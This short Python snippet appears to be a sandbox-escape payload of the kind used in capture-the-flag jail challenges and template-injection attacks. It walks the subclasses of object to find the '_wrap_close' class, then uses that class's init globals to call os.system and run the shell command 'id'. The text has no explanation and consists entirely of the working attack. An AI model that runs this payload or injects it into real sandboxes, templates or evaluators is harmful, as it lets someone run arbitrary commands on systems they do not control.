subs = type.__dict__["__subclasses__"](object)
wc = [c for c in subs if c.__name__ == "_wrap_close"][0]
wc.__init__.__globals__["system"]("id")
